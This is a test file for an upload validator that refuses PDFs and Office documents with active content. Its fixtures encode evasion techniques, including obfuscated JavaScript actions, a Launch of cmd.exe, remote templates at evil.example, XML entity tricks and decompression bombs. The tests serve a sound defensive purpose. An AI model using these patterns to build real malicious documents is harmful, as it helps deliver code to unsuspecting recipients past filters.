import { randomBytes } from 'node:crypto'
import { text } from '@veos/contract/platform/texts/text'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { anOfficeFile, aPdf, aPdfWith, packedObjects } from '../../../testing/documents.ts'
import { activeFault } from './documentType.ts'

const scripts = text('document_pdf_scripts')
const hidden = text('document_pdf_protected')
const loads = text('document_office_active')
const script = '<</S/JavaScript/JS(app.alert(1))>>'
const protectedBy = '8 0 obj<</Filter/Standard/V 4>>endobj\n9 0 obj<</Encrypt 8 0 R>>endobj'

describe('a PDF is refused for what it would run', () => {
  test.each<[string, Buffer, string]>([
    ['a script', aPdfWith(`7 0 obj${script}endobj`), scripts],
    ['a script when it opens', aPdfWith('7 0 obj<</OpenAction<</S /JavaScript /JS 8 0 R>>>>endobj'), scripts],
    ['its name in other letters', aPdfWith('7 0 obj<</S/J#61va#53cript/JS(x)>>endobj'), scripts],
    ['scripts by name', aPdfWith('7 0 obj<</Names<</JavaScript 8 0 R>>>>endobj'), scripts],
    ['a program', aPdfWith('7 0 obj<</S/Launch/F(cmd.exe)>>endobj'), scripts],
    ['a film', aPdfWith('7 0 obj<</Subtype/RichMedia>>endobj'), scripts],
    ['a rendition with a script', aPdfWith('7 0 obj<</S/Rendition/JS(x)>>endobj'), scripts],
    ['a form that is a program', aPdfWith('7 0 obj<</AcroForm<</XFA[(template)8 0 R]>>>>endobj'), scripts],
    ['behind what looks like a stream', aPdfWith(`% stream\n7 0 obj${script}endobj\n% endstream`), scripts],
    ['packed objects', aPdfWith(packedObjects(`10 0 ${script}`)), scripts],
    [
      'packed objects of another name',
      aPdfWith(packedObjects(`10 0 ${script}`, '/N 1/First 5/Filter[/FlateDecode]')),
      scripts,
    ],
    [
      'packed objects in escapes',
      aPdfWith(packedObjects(`10 0 ${script}`, '/Type/Obj#53tm/Filter/Fl#61teDecode')),
      scripts,
    ],
    [
      'objects packed twice',
      aPdfWith(packedObjects('x', '/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]')),
      scripts,
    ],
    [
      'objects packed in rows',
      aPdfWith(packedObjects('x', '/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>')),
      scripts,
    ],
    ['objects that unfold to too much', aPdfWith(packedObjects(' '.repeat(51_000_000))), scripts],
    [
      'packed objects that break off',
      aPdfWith(packedObjects(`10 0 ${script} ${'x'.repeat(300)}`).subarray(0, 150)),
      scripts,
    ],
    ['packed objects behind a password', aPdfWith(packedObjects('10 0 <<>>'), protectedBy), hidden],
  ])('%s', async (_, bytes, fault) => expect(await activeFault('pdf', bytes)).toBe(fault))
})

describe('a PDF is taken', () => {
  test.each<[string, Buffer]>([
    ['that is plain', aPdf],
    ['with links', aPdfWith('7 0 obj<</S/URI/URI(https://veos.example/?a=JavaScript)>>endobj')],
    ['that opens at a page', aPdfWith('7 0 obj<</OpenAction[3 0 R/Fit]>>endobj')],
    ['with an attached invoice', aPdfWith('7 0 obj<</Type/Filespec/EF<</F 8 0 R>>/UF(factur-x.xml)>>endobj')],
    ['whose objects are packed', aPdfWith(packedObjects('10 0 <</S/URI/URI(https://veos.example)>>'))],
    ['behind a password, its objects in the clear', aPdfWith(protectedBy)],
    ['with other names that begin alike', aPdfWith('7 0 obj<</LaunchedBy(us)/XFAlike true/JavaScripts 1>>endobj')],
  ])('%s', async (_, bytes) => expect(await activeFault('pdf', bytes)).toBeNull())

  test('with pictures of any bytes', async () => {
    for (let round = 0; round < 5; round++) {
      const picture = Buffer.concat([
        Buffer.from('7 0 obj<</Subtype/Image>>stream\n'),
        randomBytes(4_000_000),
        Buffer.from('\nendstream endobj'),
      ])
      expect(await activeFault('pdf', aPdfWith(picture))).toBeNull()
    }
  })
})

const start = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const space = 'http://schemas.openxmlformats.org/package/2006/relationships'
const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const template = `<Relationship Id="rId1" Type="${kinds}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`
const listOf = (...relationships: string[]) =>
  `${start}<Relationships xmlns="${space}">${relationships.join('')}</Relationships>`
const docx = (list: string | Buffer, name = 'word/_rels/settings.xml.rels') =>
  anOfficeFile('docx', { [name]: { text: list } })

describe('an office document is refused for what it would load or run', () => {
  const external = (kind: string, mode = 'External') =>
    listOf(`<Relationship Id="rId1" Type="${kinds}/${kind}" Target="file://evil.example/a" TargetMode="${mode}"/>`)
  test.each<[string, Buffer]>([
    ['a template', docx(listOf(template))],
    ['a template, in single quotes', docx(listOf(template.replaceAll('"', "'")))],
    ['a template, in references', docx(listOf(template.replace('"External"', '"&#69;xtern&#x61;l"')))],
    ['a template, with a prefix', docx(listOf(template).replaceAll('<Rel', '<a:Rel').replaceAll('</Rel', '</a:Rel'))],
    ['a template, in UTF-16', docx(Buffer.from(`\ufeff${listOf(template)}`, 'utf16le'))],
    ['a template, after one that hides it', docx(listOf('<Relationship Id="a" Target="x>y" Type="b"/>', template))],
    ['a template, in a list of another form', docx(listOf(`<!-- -->${template}`))],
    ['an entity', docx(`<!DOCTYPE a [<!ENTITY b "External">]>${listOf(template)}`)],
    ['an encoding that reads otherwise', docx(listOf().replace('UTF-8', 'UTF-7'))],
    ['a list that is a bomb', docx(' '.repeat(2_000_000))],
    ['a list whose name is in capitals', docx(listOf(template), 'word/_rels/SETTINGS.XML.RELS')],
    ['a picture elsewhere', docx(external('image'), 'word/_rels/document.xml.rels')],
    ['an object elsewhere', docx(external('oleObject'), 'word/_rels/document.xml.rels')],
    ['a frame', docx(external('frame', ' external '), 'word/_rels/webSettings.xml.rels')],
    [
      'another workbook',
      anOfficeFile('xlsx', { 'xl/externalLinks/_rels/externalLink1.xml.rels': { text: external('externalLinkPath') } }),
    ],
    ['a control', anOfficeFile('docx', { 'word/activeX/activeX1.xml': { text: 'x' } })],
    ['a program', anOfficeFile('docx', { 'word/embeddings/oleObject1.bin': { text: 'x' } })],
  ])('%s', async (_, bytes) => {
    const type = bytes.includes('xl/') ? 'xlsx' : 'docx'
    expect(await activeFault(type, bytes)).toBe(loads)
  })
})

test('an office document may link to pages and hold parts of its own', async () => {
  const link = `<Relationship Id="rId2" Type="${kinds}/hyperlink" Target="https://veos.example/?a=1&amp;b=2" TargetMode="External"/>`
  const own = `<Relationship Id="rId3" Type="${kinds}/styles" Target="styles.xml"></Relationship>`
  expect(await activeFault('docx', docx(listOf(own, link, '\n')))).toBeNull()
  expect(await activeFault('docx', docx(`${start}<Relationships xmlns="${space}"/>`))).toBeNull()
  expect(await activeFault('xlsx', anOfficeFile('xlsx', { 'xl/embeddings/sheet1.xlsx': { text: 'x' } }))).toBeNull()
})

test('no bytes in a list or behind a stream break anything', async () => {
  await fc.assert(
    fc.asyncProperty(fc.uint8Array({ maxLength: 300 }), async (bytes) => {
      expect([null, loads]).toContain(await activeFault('docx', docx(Buffer.from(bytes))))
      const stream = Buffer.concat([Buffer.from('7 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'), bytes])
      expect([null, scripts]).toContain(await activeFault('pdf', aPdfWith(stream)))
    }),
  )
})
